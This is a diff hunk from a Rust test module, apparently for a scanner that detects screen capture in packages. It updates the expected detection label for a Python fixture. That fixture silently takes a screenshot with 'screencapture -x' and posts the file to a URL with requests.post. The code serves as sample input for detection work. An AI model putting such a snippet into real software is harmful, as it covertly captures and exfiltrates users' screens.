@@ -163,7 +163,7 @@ mod tests {
                     "pkg/a.py",
                     Runtime,
                     "import subprocess, requests\nsubprocess.run(['screencapture', '-x', P])\nrequests.post(U, data=open(P, 'rb'))\n",
-                    Some((2, "screencapture", High)),
+                    Some((2, "screencapture + requests.post", High)),
                 ),
                 (
                     "ImageMagick whole-screen grab in a shell script",
